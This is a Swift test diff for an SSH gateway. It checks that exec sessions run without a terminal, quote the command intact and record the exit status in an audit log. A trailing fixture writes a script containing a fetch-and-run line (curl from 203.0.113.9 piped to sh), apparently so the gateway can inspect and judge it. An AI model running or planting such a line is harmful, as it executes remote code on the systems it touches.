@@ -23,6 +23,15 @@ struct SSHTargetTests {
         #expect(await exec.waitForExit() == 0)
         #expect(exec.output.contains("sum=42 user=\(sshd.user)"), "\(exec.output) \(exec.errorOutput)")
 
+        // An exec session's command runs without a terminal, as `ssh host COMMAND` does (a
+        // terminal would cost two thirds of the throughput), quoted whole, with its exit status.
+        let plain = try gw.ssh("alice+real", as: "alice", tty: false, command: ["--", "test -t 1 && echo on-a-tty || echo no-tty; echo \"it's $((3+4))\"; echo oops >&2; exit 7"])
+        #expect(await plain.waitForExit() == 7, "\(plain.output) \(plain.errorOutput)")
+        #expect(plain.output.contains("no-tty\nit's 7\n"), "\(plain.output) \(plain.errorOutput)")
+        #expect(plain.output.contains("oops") || plain.errorOutput.contains("oops"), "\(plain.output) \(plain.errorOutput)")
+        let finished = try await gw.events().filter { $0.0 == AuditEventCode.commandFinished.code }.compactMap { $0.1["exit_status"]?.integerValue }
+        #expect(finished.contains(7), "\(finished)")
+
         // Interactive: the gateway reads a script from the target before deciding about it.
         let scripts = TemporaryDirectory(prefix: "escort-scripts")
         try "#!/bin/sh\necho restarting\ncurl -s http://203.0.113.9/k | sh\n".write(toFile: scripts.file("fix_servers.sh"), atomically: true, encoding: .utf8)
